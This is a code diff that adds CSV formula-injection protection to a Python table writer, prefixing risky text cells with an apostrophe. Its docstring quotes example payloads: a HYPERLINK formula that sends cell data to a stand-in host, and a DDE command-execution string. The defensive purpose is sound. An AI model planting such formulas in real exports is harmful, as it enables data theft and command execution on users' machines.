@@ -3,12 +3,14 @@
 Every single-file write of the package goes through :func:`atomic_path`: the content is written
 to a temporary file in the target's folder, which replaces the target only once it is complete,
 so a reader never sees a half-written file and an interrupted run leaves the old file in place.
-Tables are written with a fixed number of significant digits and ``\\n`` line endings.
+Tables are written with a fixed number of significant digits and ``\\n`` line endings, and with
+text that a spreadsheet would run as a formula made inert (:func:`neutralise_formulas`).
 """
 
 from __future__ import annotations
 
 import os
+import re
 import tempfile
 from collections.abc import Iterator
 from contextlib import contextmanager
@@ -17,6 +19,18 @@ from pathlib import Path
 import pandas as pd
 
 FLOAT_FORMAT = "%.6g"
+
+# Spreadsheet formula injection ("CSV injection", OWASP): a cell whose text starts with one of
+# these, after any leading whitespace (tab and carriage return included), is run as a formula.
+FORMULA_TRIGGERS = ("=", "+", "-", "@")
+_NUMBER_RE = re.compile(r"[+-]?(?:\d[\d,]*(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?%?")
+# "=word": the codebook's exact-word notation ("=fault"); as a formula, a name that is not defined.
+_BARE_NAME_RE = re.compile(r"=[^\W\d_]+")
+# "- text": a bullet, dash and space, as cleaning writes every list item.
+_BULLET_RE = re.compile(r"[-+]\s")
+# What lets a formula act: a function call NAME( (HYPERLINK, WEBSERVICE, IMPORTXML, ...) or a
+# DDE link (cmd|'...'!A0).
+_ACTIVE_RE = re.compile(r"[\w.]\(|\|")
 
 
 @contextmanager
@@ -40,9 +54,76 @@ def atomic_path(path: Path | str) -> Iterator[Path]:
         raise
 
 
+def is_formula_text(cell: str) -> bool:
+    """Whether a spreadsheet opening the CSV would run ``cell`` as a formula that can act.
+
+    A cell is a formula when, after leading whitespace (tab and carriage return included), it
+    starts with ``=``, ``+``, ``-`` or ``@`` and is not a number ("-0.5", "+3%"). Two shapes
+    that a spreadsheet may evaluate but that cannot call a function, follow a DDE link or do
+    anything but display an error are left as they are, because they are everywhere in our
+    tables: the codebook's exact-word terms ("=fault") and bullets ("- Rare earths ...") that
+    hold no function call ``NAME(`` and no ``|``.
+    """
+    text = cell.lstrip()
+    if not text.startswith(FORMULA_TRIGGERS) or _NUMBER_RE.fullmatch(text):
+        return False
+    if _BARE_NAME_RE.fullmatch(text):
+        return False
+    return not (_BULLET_RE.match(text) and not _ACTIVE_RE.search(text))
+
+
+def _neutralise_column(column: pd.Series) -> pd.Series | None:
+    """The column with formula text neutralised, or None when nothing needs it."""
+    if isinstance(column.dtype, pd.CategoricalDtype):
+        column = column.astype(object)
+    elif not (pd.api.types.is_object_dtype(column) or pd.api.types.is_string_dtype(column)):
+        return None  # numbers, booleans, dates: a negative number stays a number
+    first = column.str.lstrip().str[:1]  # non-text cells give NaN
+    candidates = first.isin(FORMULA_TRIGGERS)
+    if not candidates.any():
+        return None
+    flagged = column[candidates].map(lambda v: isinstance(v, str) and is_formula_text(v))
+    if not flagged.any():
+        return None
+    out = column.astype(object)
+    index = flagged.index[flagged.to_numpy(dtype=bool)]
+    out.loc[index] = "'" + out.loc[index]
+    return out
+
+
+def neutralise_formulas(df: pd.DataFrame) -> pd.DataFrame:
+    """``df`` with every text cell that a spreadsheet would run as a formula prefixed with ``'``.
+
+    Outlet names, titles and sentences come from users' files; a cell such as
+    ``=HYPERLINK("http://x/?"&A1)`` or ``-2+3+cmd|' /C calc'!A0`` in a CSV is run by Excel,
+    LibreOffice or Google Sheets when the table is opened (OWASP "CSV injection"). The leading
+    apostrophe makes the spreadsheet show the text as text. Only text cells are touched (see
+    :func:`is_formula_text`); numeric columns, including negative numbers, are left as they are.
+    ``df`` itself is never modified; it is returned unchanged when no cell needs neutralising.
+    """
+    changed = {}
+    for pos in range(df.shape[1]):  # by position: column names may repeat
+        column = _neutralise_column(df.iloc[:, pos])
+        if column is not None:
+            changed[pos] = column
+    if not changed:
+        return df
+    out = df.copy()
+    for pos, column in changed.items():
+        out.isetitem(pos, column)
+    return out
+
+
 def write_table(df: pd.DataFrame, path: Path | str) -> Path:
-    """Write ``df`` as CSV at ``path`` atomically, with a deterministic float format."""
+    """Write ``df`` as CSV at ``path`` atomically, with a deterministic float format.
+
+    Text cells that a spreadsheet would run as a formula (``=``, ``+``, ``-``, ``@`` at the
+    start, after any tab or carriage return) are written with a leading apostrophe, so that
+    opening a table built from users' files in a spreadsheet cannot run anything
+    (:func:`neutralise_formulas`; numbers, negative ones included, are written as they are).
+    """
     path = Path(path)
+    df = neutralise_formulas(df)
     with atomic_path(path) as tmp:
         df.to_csv(
             tmp, index=False, lineterminator="\n", float_format=FLOAT_FORMAT, encoding="utf-8"
